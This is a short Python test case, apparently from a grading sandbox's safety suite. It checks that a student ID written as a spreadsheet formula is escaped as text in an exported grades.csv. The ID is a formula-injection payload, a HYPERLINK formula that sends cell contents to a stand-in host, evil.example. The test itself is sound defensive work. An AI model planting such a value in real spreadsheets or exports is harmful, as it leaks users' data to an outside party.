"""A student folder named like a spreadsheet formula: grades.csv must show it as text."""
KIND = "damage"
LAYER = 'inert outputs'   # what must stop it: a row of docs/reference/sandbox-layers.md
EXPECT = {'score': 'honest_right', 'review': False}
STUDENT_ID = '=HYPERLINK("evil.example?"&A1,"click")'


def damage(folder):
    pass


def inspect(record, out):
    import csv
    with open(out / "grades.csv", newline="") as f:
        ids = [row["student_id"] for row in csv.DictReader(f)]
    assert "'" + STUDENT_ID in ids and STUDENT_ID not in ids
